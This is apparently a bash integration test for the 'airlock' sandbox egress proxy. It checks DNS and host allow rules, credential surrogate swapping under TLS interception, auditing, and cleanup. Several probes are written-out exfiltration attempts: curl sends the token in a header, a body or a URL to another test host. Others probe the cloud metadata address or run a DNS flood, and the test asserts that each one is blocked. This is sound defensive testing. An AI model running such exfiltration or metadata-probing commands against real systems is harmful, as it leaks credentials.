#!/usr/bin/env bash
# The egress proxy, end to end with real clients inside the sandbox (curl, python3 urllib, git)
# and upstreams of the test's own on 127.0.0.1 (plain HTTP, and TLS with a test CA), reached
# through names pinned with network.resolve and --resolve:
#   allowed names work, transparently and through HTTP_PROXY (CONNECT); denied names get
#   NXDOMAIN (and a 403 from the explicit proxy); raw IPs, the metadata address, a name pinned to
#   it and unlisted ports fail; a TLS server name that is not the connection's name is refused;
#   there is no IPv6 path;
#   for the host a credential is bound to, TLS is intercepted: the upstream receives the real
#   token while the sandbox only ever holds the surrogate, and a real value echoed back reaches
#   the sandbox as the surrogate; a surrogate headed to another allowed host, in a body or in a
#   URL is refused with 403 and never reaches an upstream;
#   every connection, DNS answer and swap is audited; violations reach --json; nothing is left.
. "${IT_LIB:-$(dirname "$0")/lib.sh}"
it_setup

rand() { head -c 96 /dev/urandom | base64 | tr -dc 'A-Za-z0-9' | head -c "$1"; }
token=ghp_$(rand 36)
export IT_TOKEN=$token
hp=$(it_port)
sp=$((hp + 1))
closed=$((hp + 2))
fp=$((hp + 3)) # Python's own http.server: it serves only origin-form targets

# ---- the upstreams: plain on $hp, TLS on $sp with a certificate of a test CA ----
pki=$IT_TMP/pki
mkdir -p "$pki"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -days 2 \
	-subj "/CN=airlock test CA" -keyout "$pki/ca.key" -out "$pki/ca.pem" 2>/dev/null
openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj "/CN=api.test" \
	-keyout "$pki/srv.key" -out "$pki/srv.csr" 2>/dev/null
printf 'subjectAltName=DNS:api.test,DNS:other.test\n' >"$pki/ext"
openssl x509 -req -in "$pki/srv.csr" -CA "$pki/ca.pem" -CAkey "$pki/ca.key" -CAcreateserial \
	-days 2 -extfile "$pki/ext" -out "$pki/srv.pem" 2>/dev/null
cp "$pki/ca.pem" "$WS/test-ca.pem"
cp "$IT_SOURCE_ROOT/tests/integration/helpers/dns-flood.py" "$WS/"

# A repository for git's dumb HTTP protocol.
git init -q --bare "$IT_TMP/www/repo.git"
git clone -q "$IT_TMP/www/repo.git" "$IT_TMP/src" 2>/dev/null
(cd "$IT_TMP/src" && echo "from the upstream" >README && git add README &&
	git -c user.name=t -c user.email=t@t commit -qm one && git push -q origin HEAD:master) 2>/dev/null
git -C "$IT_TMP/www/repo.git" symbolic-ref HEAD refs/heads/master
git -C "$IT_TMP/www/repo.git" update-server-info

up=$IT_TMP/upstream.jsonl
: >"$up"
it_upstream "$IT_TMP/up-plain.out" "$hp" "$up"
it_upstream "$IT_TMP/up-tls.out" "$sp" "$up" --tls "$pki/srv.pem" "$pki/srv.key" --root "$IT_TMP/www"
echo "served as a file" >"$IT_TMP/www/origin.txt"
python3 -m http.server "$fp" --bind 127.0.0.1 --directory "$IT_TMP/www" >"$IT_TMP/up-files.out" 2>&1 &
IT_UPSTREAMS="$IT_UPSTREAMS $!"
wait_for 10 curl -s -o /dev/null "http://127.0.0.1:$fp/"

policy=$IT_TMP/policy.json
write_policy "$policy" <<EOF
{"workspace": {"root": "$WS"},
 "network": {"default": "deny",
  "rules": [{"destination": "api.test", "port": $hp, "action": "allow"},
            {"destination": "api.test", "port": $fp, "action": "allow"},
            {"destination": "api.test", "port": $sp, "action": "allow"},
            {"destination": "other.test", "port": $hp, "action": "allow"},
            {"destination": "other.test", "port": $sp, "action": "allow"},
            {"destination": "meta.test", "port": $hp, "action": "allow"},
            {"destination": "127.0.0.0/8", "port": $hp, "action": "allow"},
            {"destination": "127.0.0.0/8", "port": $sp, "action": "allow"},
            {"destination": "127.0.0.0/8", "port": $fp, "action": "allow"}],
  "resolve": {"api.test": "127.0.0.1", "meta.test": "169.254.169.254"}},
 "credentials": [{"name": "tok", "source": {"type": "env", "var": "IT_TOKEN"},
   "injection": {"type": "env_var", "var_name": "TOKEN"}, "hosts": ["api.test"]}]}
EOF

# ---- one sandbox run: each check prints "name=result" ----
probe='
r() { printf "%s=%s\n" "$1" "$2"; }
A=http://api.test:'$hp' S=https://api.test:'$sp' O=http://other.test:'$hp'
r token "$TOKEN"
r explicit "$(curl -sS -m 10 $A/ 2>&1)"
r origin_form "$(curl -sS -m 10 http://api.test:'$fp'/origin.txt 2>&1)"
r origin_form_urllib "$(python3 -c "import urllib.request; print(urllib.request.urlopen(\"http://api.test:'$fp'/origin.txt\", timeout=10).read().decode(), end=\"\")" 2>&1)"
r transparent "$(curl -sS -m 10 --noproxy "*" $A/ 2>&1)"
r intercept_connect "$(curl -sS -m 10 -H "Authorization: Bearer $TOKEN" $S/echo-headers 2>&1)"
r intercept_transparent "$(curl -sS -m 10 --noproxy "*" -H "Authorization: Bearer $TOKEN" $S/echo-headers 2>&1)"
r intercept_http10 "$(curl -sS -m 10 --http1.0 --noproxy "*" -H "Authorization: Bearer $TOKEN" $S/echo-headers 2>&1)"
r basic "$(curl -sS -m 10 -u "user:$TOKEN" $S/echo-headers 2>&1)"
r urllib "$(python3 -c "
import os, urllib.request
q = urllib.request.Request(\"$S/echo-headers\", headers={\"X-Api-Key\": os.environ[\"TOKEN\"]})
print(urllib.request.urlopen(q, timeout=10).read().decode())" 2>&1 | tr -d "\n")"
r git "$(cd /tmp && git clone -q $S/repo.git 2>&1 && cat repo/README)"
r passthrough "$(curl -sS -m 10 --cacert /workspace/test-ca.pem https://other.test:'$sp'/ 2>&1)"
r exfil_other "$(curl -s -m 10 -o /dev/null -w "%{http_code}" -H "X-Leak: $TOKEN" $O/leak-header)"
r plain_swap "$(curl -s -m 10 -o /dev/null -w "%{http_code}" --noproxy "*" -H "X-K: $TOKEN" $A/leak-plain)"
r plain_swap_proxy "$(curl -s -m 10 -o /dev/null -w "%{http_code}" -H "X-K: $TOKEN" $A/leak-plain)"
r exfil_body "$(curl -s -m 10 -o /dev/null -w "%{http_code}" --data "t=$TOKEN" $S/leak-body)"
r exfil_url "$(curl -s -m 10 -o /dev/null -w "%{http_code}" "$S/leak-url?t=$TOKEN")"
r denied_proxy "$(curl -s -m 10 -o /dev/null -w "%{http_code}" http://denied.test:'$hp'/)"
curl -s -m 10 --noproxy "*" http://denied.test:'$hp'/ >/dev/null 2>&1; r denied_transparent $?
r dns_allowed "$(python3 -c "import socket; print(socket.gethostbyname(\"api.test\"))" 2>&1)"
r dns_denied "$(python3 -c "
import socket
try:
    socket.gethostbyname(\"denied.test\"); print(\"resolved\")
except socket.gaierror as e:
    print(\"gaierror\", e.errno == socket.EAI_NONAME)" 2>&1)"
r dns_aaaa "$(python3 -c "
import socket
try:
    print(socket.getaddrinfo(\"api.test\", 80, socket.AF_INET6))
except socket.gaierror:
    print(\"none\")" 2>&1)"
curl -s -m 10 --noproxy "*" http://192.0.2.10:'$hp'/ >/dev/null 2>&1; r raw_ip $?
curl -s -m 10 --noproxy "*" http://169.254.169.254/ >/dev/null 2>&1; r metadata_ip $?
curl -s -m 10 --noproxy "*" http://meta.test:'$hp'/ >/dev/null 2>&1; r metadata_name $?
curl -s -m 10 --noproxy "*" http://api.test:'$closed'/ >/dev/null 2>&1; r closed_port $?
curl -s -m 10 --noproxy "*" --cacert /workspace/test-ca.pem --connect-to other.test:'$sp':api.test:'$sp' https://other.test:'$sp'/ >/dev/null 2>&1; r sni_mismatch $?
r ipv6 "$(python3 -c "
import socket
try:
    socket.create_connection((\"2001:db8::1\", 80), timeout=5); print(\"connected\")
except OSError as e:
    print(\"failed\")" 2>&1)"
r flood "$(python3 /workspace/dns-flood.py 10.255.255.1 2)"
r ifaces "$(awk -F: "NR > 2 { gsub(/ /, \"\", \$1); print \$1 }" /proc/net/dev | sort | tr "\n" " ")"
'
sb_run -p "$policy" --resolve other.test:127.0.0.1 --upstream-ca "$pki/ca.pem" \
	--audit "$IT_TMP/audit.jsonl" --json -- /bin/sh -c "$probe"
assert_eq 0 "$AL_RC" "the sandbox with egress rules runs"
json_get "$IT_TMP/al.out" 'd["stdout"]' >"$IT_TMP/probe.out"
get() { sed -n "s/^$1=//p" "$IT_TMP/probe.out" | head -n 1; }

sur=$(get token)
assert_match '^ghp_[A-Za-z0-9]{36}$' "$sur" "the sandbox holds a token-shaped surrogate"
assert_ne "$token" "$sur" "... not the token"
assert_eq "hello from upstream" "$(get explicit)" "an allowed name works through HTTP_PROXY"
assert_eq "served as a file" "$(get origin_form)" \
	"through HTTP_PROXY, a request reaches the origin in origin-form (Python's http.server serves it)"
assert_eq "served as a file" "$(get origin_form_urllib)" "... from Python's urllib too"
assert_eq "hello from upstream" "$(get transparent)" "an allowed name works transparently"
assert_eq "eth0 lo " "$(get ifaces)" "the sandbox has lo and the veth end, nothing else"

for how in intercept_connect intercept_transparent intercept_http10; do
	out=$(get $how)
	assert_contains "$out" "Bearer $sur" "$how: a real value echoed back reaches the sandbox as the surrogate"
	assert_not_contains "$out" "$token" "$how: the sandbox never sees the real token"
done
assert_eq 3 "$(grep -c "\"Bearer $token\"" "$up")" \
	"the upstream received the real token (CONNECT, transparent, and HTTP/1.0 with ALPN http/1.0 alone), never the surrogate"
assert_eq 0 "$(grep -c "$sur" "$up")" "no surrogate reached any upstream"
basic=$(printf 'user:%s' "$token" | base64 -w0)
assert_eq 1 "$(grep -c "Basic $basic" "$up")" "the surrogate inside Authorization: Basic is swapped"
assert_not_contains "$(get basic)" "$basic" "the upstream's echo of the Basic credentials reaches the sandbox without the token"
assert_contains "$(get basic)" "Basic $(printf 'user:' | base64 -w0 | head -c 6)" "... but as Basic credentials still"
assert_contains "$(get urllib)" "$sur" "python3 urllib reaches the intercepted host (and sees the surrogate)"
assert_eq 1 "$(grep -c "\"X-Api-Key\", \"$token\"" "$up")" "... and the upstream got the real key"
assert_eq "from the upstream" "$(get git)" "git clones over intercepted https"
assert_eq "hello from upstream" "$(get passthrough)" "TLS to a host without credentials passes through"

assert_eq 403 "$(get exfil_other)" "a surrogate headed to another allowed host is refused with 403"
assert_eq 403 "$(get plain_swap)" "a credential is never sent in plain HTTP, even to its bound host (403)"
assert_eq 403 "$(get plain_swap_proxy)" "... nor through the explicit proxy (403)"
assert_eq 403 "$(get exfil_body)" "a surrogate in a body is refused with 403"
assert_eq 403 "$(get exfil_url)" "a surrogate in the URL is refused with 403"
assert_eq 0 "$(grep -c '/leak' "$up")" "no refused request reached an upstream"

assert_eq 403 "$(get denied_proxy)" "a denied name gets 403 from the explicit proxy"
assert_eq 6 "$(get denied_transparent)" "a denied name does not resolve (curl: couldn't resolve)"
assert_match '^198\.1[89]\.' "$(get dns_allowed)" "an allowed name resolves to a synthetic address"
assert_eq "gaierror True" "$(get dns_denied)" "a denied name is NXDOMAIN"
assert_eq "none" "$(get dns_aaaa)" "AAAA answers are empty"
assert_ne 0 "$(get raw_ip)" "a raw IP without a CIDR rule fails"
assert_ne 0 "$(get metadata_ip)" "the metadata address fails"
assert_ne 0 "$(get metadata_name)" "a name pinned to the metadata address fails"
assert_eq 7 "$(get closed_port)" "a port no rule names is refused (curl: couldn't connect)"
assert_ne 0 "$(get sni_mismatch)" "a TLS server name other than the connection's is refused"
assert_eq failed "$(get ipv6)" "there is no IPv6 path"

audit=$IT_TMP/audit.jsonl
jq_count() { python3 -c '
import json, sys
n = 0
for line in open(sys.argv[1]):
    e = json.loads(line)
    if eval(sys.argv[2], {"e": e}):
        n += 1
print(n)' "$audit" "$1"; }
assert_ne 0 "$(jq_count 'e.get("kind") == "net" and e.get("verdict") == "allow" and e.get("mode") == "tls-intercept"')" \
	"the audit records intercepted connections"
assert_ne 0 "$(jq_count 'e.get("kind") == "net" and e.get("verdict") == "deny" and e.get("reason", "").startswith("TLS server name")')" \
	"the audit records the SNI refusal"
assert_ne 0 "$(jq_count 'e.get("kind") == "net" and e.get("verdict") == "deny" and e.get("name") == "meta.test"')" \
	"the audit records the refused metadata name"
assert_ne 0 "$(jq_count 'e.get("kind") == "dns" and e.get("name") == "denied.test" and e.get("rcode") == "NXDOMAIN"')" \
	"the audit records NXDOMAIN answers"
assert_ne 0 "$(jq_count 'e.get("kind") == "credential" and e.get("action") == "swap" and e.get("host") == "api.test"')" \
	"the audit records swaps"
assert_eq 0 "$(grep -c "$token" "$audit")" "the audit holds no real value"
sent=$(get flood | sed -n 's/^sent //p')
assert_true "the sandbox flooded the DNS responder ($sent queries)" test "${sent:-0}" -gt 10000
assert_true "... but the audit did not grow with it ($(wc -l <"$audit") lines): rate-limited" \
	test "$(wc -l <"$audit")" -lt 5000
assert_ne 0 "$(jq_count 'e.get("kind") == "audit" and e.get("action") == "drop"')" \
	"the audit says that it dropped events"
assert_eq true "$(json_get "$IT_TMP/al.out" 'any(v["kind"] == "credential" for v in d["violations"])')" \
	"the refused surrogates are violations in the result"
assert_eq true "$(json_get "$IT_TMP/al.out" 'any(v["kind"] == "dns" and "denied.test" in v["detail"] for v in d["violations"])')" \
	"the denied name is a violation in the result"
assert_eq 0 "$(grep -c "$token" "$IT_TMP/al.out" "$IT_TMP/al.err" | awk -F: '{s += $2} END {print s}')" \
	"no real value in airlock's output"

# ---- killed airlock: the proxy and its namespace go too ----
nets_before=$(lsns -n -t net | wc -l)
mkfifo "$IT_TMP/go"
"$ITRUN" -t "$IT_WATCHDOG" -- "$AIRLOCK" run -w "$WS" -p "$policy" --upstream-ca "$pki/ca.pem" \
	-- /bin/sh -c "curl -sS -m 5 http://api.test:$hp/ >/workspace/killed.out; read -r x; echo $IT_MARK" \
	<"$IT_TMP/go" >/dev/null 2>&1 &
run_pid=$!
exec 9>"$IT_TMP/go"
wait_for 20 test -s "$WS/killed.out"
assert_eq "hello from upstream" "$(cat "$WS/killed.out")" "a second run reaches the upstream"
kill -KILL "$(pgrep -P "$run_pid" -x airlock || echo "$run_pid")" 2>/dev/null
wait "$run_pid" 2>/dev/null
exec 9>&-
nets_settled() { [ "$(lsns -n -t net | wc -l)" -le "$nets_before" ]; }
wait_for 10 nets_settled
assert_true "no network namespace is left after airlock is killed" nets_settled
# The killed run's cgroup is removed by the next run (see nothing-is-left-behind).
sb_run -- true
assert_eq 0 "$AL_RC" "the next run works"

it_finish
